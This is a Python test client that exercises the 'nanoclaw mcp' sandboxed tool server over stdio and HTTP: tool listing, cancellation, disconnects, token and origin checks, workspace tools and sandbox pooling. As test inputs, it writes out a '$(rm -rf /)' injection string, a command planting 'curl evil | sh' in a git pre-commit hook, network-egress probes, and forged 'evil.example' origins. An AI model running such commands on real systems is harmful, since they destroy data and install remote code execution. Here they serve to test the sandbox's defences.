"""Drives `nanoclaw mcp` with the official MCP Python SDK and prints what it saw as JSON.

The Rust side (crates/cli/tests/suite/mcp.rs) starts this script and judges its output;
this script only performs one scenario and reports, failing (exit 1) only when the SDK
itself cannot talk to the server.

    client.py --nanoclaw BIN --policy F --workspace D --audit A --mode M SCENARIO
    client.py --url http://127.0.0.1:PORT/mcp --token T --mode M SCENARIO

MODE: legacy (initialize, 2025-11-25), 2025-06-18 (initialize offering that revision),
2026-07-28 (no handshake), auto (server/discover, then fall back).
"""

import argparse
import json
import os
import sys
import time

import anyio
import httpx2
import mcp.client.session as client_session
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from mcp.shared.exceptions import MCPError


def parse_args():
    parser = argparse.ArgumentParser()
    parser.add_argument("--nanoclaw")
    parser.add_argument("--policy")
    parser.add_argument("--workspace")
    parser.add_argument("--audit")
    parser.add_argument("--max-concurrent")
    parser.add_argument("--pool")
    parser.add_argument("--url")
    parser.add_argument("--token")
    parser.add_argument("--mode", default="legacy")
    parser.add_argument("--token-marker", default="")
    parser.add_argument("scenario")
    return parser.parse_args()


def client(args):
    mode = args.mode
    if mode == "2025-06-18":
        # The SDK offers its newest handshake revision; offer the older one instead, as a
        # client that only knows 2025-06-18 does.
        client_session.LATEST_HANDSHAKE_VERSION = "2025-06-18"
        mode = "legacy"
    if args.url:
        http = create_mcp_http_client(headers={"Authorization": f"Bearer {args.token}"})
        server = streamable_http_client(args.url, http_client=http)
    else:
        server_args = ["mcp", "--policy", args.policy, "--workspace", args.workspace, "--audit", args.audit]
        if args.max_concurrent:
            server_args += ["--max-concurrent", args.max_concurrent]
        if args.pool:
            server_args += ["--pool", args.pool]
        server = StdioServerParameters(command=args.nanoclaw, args=server_args, env=dict(os.environ))
    return Client(server, mode=mode)


def result_json(result):
    return {
        "is_error": bool(result.is_error),
        "texts": [block.text for block in result.content if getattr(block, "type", "") == "text"],
        "structured": result.structured_content,
    }


async def call(c, name, arguments, **kwargs):
    try:
        return result_json(await c.call_tool(name, arguments, **kwargs))
    except MCPError as error:
        return {"protocol_error": {"code": error.error.code, "message": error.error.message}}


async def basics(args):
    async with client(args) as c:
        tools = await c.list_tools()
        report = {
            "protocol_version": c.protocol_version,
            "tools": [
                {
                    "name": t.name,
                    "description": t.description,
                    "input_schema": t.input_schema,
                    "output_schema": t.output_schema,
                    "annotations": t.annotations.model_dump(by_alias=True, exclude_none=True) if t.annotations else None,
                }
                for t in tools.tools
            ],
        }
        report["echo"] = await call(c, "echo", {"text": "it's a \"quoted\"; $(rm -rf /) string", "count": 2})
        report["fail"] = await call(c, "shell", {"command": "echo to-stderr >&2; exit 3"})
        report["refused"] = await call(c, "refused-mount", {})
        report["unknown"] = await call(c, "no-such-tool", {})
        report["bad_args"] = await call(c, "echo", {"text": "x", "count": "two"})
        report["missing_args"] = await call(c, "echo", {})
        report["extra_args"] = await call(c, "echo", {"text": "x", "mount": "/"})
        report["write"] = await call(c, "write", {"path": "notes/new.txt", "content": "line one\nline two\n"})
    return report


async def progress(args):
    seen = []

    async def on_progress(progress, total, message):
        seen.append({"progress": progress, "message": message})

    async with client(args) as c:
        result = await call(c, "shell", {"command": "sleep 2.5; echo slept"}, progress_callback=on_progress)
    return {"result": result, "progress": seen}


def processes_with(marker):
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in cmdline and "client.py" not in cmdline:
            found.append(cmdline)
    return found


def sandboxed(marker):
    """The sandboxed shell itself, not its runner (whose argv holds the params JSON)."""
    return [p for p in processes_with(marker) if "--params-json" not in p]


async def cancel(args):
    marker = args.token_marker
    report = {}
    async with client(args) as c:
        with anyio.move_on_after(30) as scope:
            async with anyio.create_task_group() as tg:

                async def slow():
                    report["result"] = await call(c, "shell", {"command": f"sleep 60; : {marker}"})

                tg.start_soon(slow)
                started = time.monotonic()
                while not sandboxed(marker):
                    if time.monotonic() - started > 20:
                        report["never_started"] = True
                        tg.cancel_scope.cancel()
                        return report
                    await anyio.sleep(0.02)
                report["running"] = sandboxed(marker)
                cancelled_at = time.monotonic()
                tg.cancel_scope.cancel()
        report["timed_out"] = scope.cancelled_caught
        while processes_with(marker) and time.monotonic() - cancelled_at < 5:
            await anyio.sleep(0.01)
        report["gone_after_ms"] = int((time.monotonic() - cancelled_at) * 1000)
        report["left"] = processes_with(marker)
        # The connection is still open: the cancellation alone stopped the sandbox.
        report["after"] = await call(c, "echo", {"text": "still serving"})
    return report


async def disconnect(args):
    """Starts a slow call, then leaves without a word (the stdio client closes stdin)."""
    marker = args.token_marker
    async with client(args) as c:
        async with anyio.create_task_group() as tg:

            async def slow():
                await call(c, "shell", {"command": f"sleep 60; : {marker}"})

            tg.start_soon(slow)
            while not sandboxed(marker):
                await anyio.sleep(0.02)
            tg.cancel_scope.cancel()
            # Leave with the request still open: exit the client below at once.
    return {"left_at": time.time()}


async def hang(args):
    """Starts a slow call and waits for it: the test kills this process meanwhile."""
    async with client(args) as c:
        await call(c, "shell", {"command": f"sleep 60; : {args.token_marker}"})
    return {}


async def policy_edit(args):
    """A call, an edit of the policy file the server serves, the same call again."""
    async with client(args) as c:
        before = await call(c, "echo", {"text": "before"})
        with open(args.policy, "a") as policy:
            policy.write("\n# edited while served\n")
        after = await call(c, "echo", {"text": "after"})
    return {"before": before, "after": after}


async def parallel(args):
    async with client(args) as c:
        started = time.monotonic()
        results = [None] * 8
        messages = []

        async def on_progress(progress, total, message):
            messages.append(message)

        async def one(i):
            command = {"command": f"sleep 1; echo call-{i}"}
            results[i] = await call(c, "shell", command, progress_callback=on_progress)

        async with anyio.create_task_group() as tg:
            for i in range(8):
                tg.start_soon(one, i)
        elapsed_ms = int((time.monotonic() - started) * 1000)
        return {"elapsed_ms": elapsed_ms, "results": results, "progress": messages}


async def http_checks(args):
    """Raw requests to the HTTP endpoint: what a client without the token, or a web page of
    another origin, gets."""
    body = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "probe", "version": "0"}}}
    headers = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    report = {}
    async with httpx2.AsyncClient() as http:
        async def status(extra):
            response = await http.post(args.url, json=body, headers={**headers, **extra})
            return response.status_code

        report["no_token"] = await status({})
        report["wrong_token"] = await status({"Authorization": "Bearer " + "0" * 64})
        report["foreign_origin"] = await status({"Authorization": f"Bearer {args.token}", "Origin": "https://evil.example"})
        report["loopback_origin"] = await status({"Authorization": f"Bearer {args.token}", "Origin": "http://localhost:3000"})
        report["no_origin"] = await status({"Authorization": f"Bearer {args.token}"})
        report["foreign_host"] = await status({"Authorization": f"Bearer {args.token}", "Host": "evil.example"})
        other = args.url.replace("/mcp", "/other")
        response = await http.post(other, json=body, headers={**headers, "Authorization": f"Bearer {args.token}"})
        report["other_path"] = response.status_code
    return report


async def workspace(args):
    """The tools of examples/agent-workspace.toml, as a coding agent uses them."""
    async with client(args) as c:
        names = [t.name for t in (await c.list_tools()).tools]
        return {
            "tools": names,
            "write_file": await call(c, "write_file", {"path": "src/lib.rs", "content": "// TODO: everything\n"}),
            "read_file": await call(c, "read_file", {"path": "src/lib.rs"}),
            "list_dir": await call(c, "list_dir", {}),
            "list_src": await call(c, "list_dir", {"path": "src"}),
            "search": await call(c, "search", {"pattern": "TODO"}),
            "shell": await call(c, "shell", {"command": "cd src && wc -l lib.rs && pwd"}),
            # Beyond what one argument of a command line can hold (128 KiB).
            "big_file": await call(c, "write_file", {"path": "big.txt", "content": "x" * 300_000}),
            "git_hook": await call(c, "shell", {"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
            "network": await call(c, "shell", {"command": "wget -q -O- http://example.com || curl -s http://example.com; echo rc=$?"}),
        }


async def pool(args):
    """Calls on a pooled server: each must see a fresh sandbox (an empty /tmp)."""
    async with client(args) as c:
        calls = []
        for i in range(4):
            calls.append(await call(c, "shell", {"command": f"ls -A /tmp; echo {i} > /tmp/mark; cat /tmp/mark"}))
            # Give the refill a moment, so that later calls take pre-built ones.
            await anyio.sleep(0.3)
        echo = await call(c, "echo", {"text": "pooled", "count": 1})
    return {"calls": calls, "echo": echo}


SCENARIOS = {
    "pool": pool,
    "workspace": workspace,
    "basics": basics,
    "progress": progress,
    "cancel": cancel,
    "disconnect": disconnect,
    "hang": hang,
    "policy_edit": policy_edit,
    "parallel": parallel,
    "http_checks": http_checks,
}


def main():
    args = parse_args()
    report = anyio.run(SCENARIOS[args.scenario], args)
    print(json.dumps(report))


if __name__ == "__main__":
    sys.exit(main())
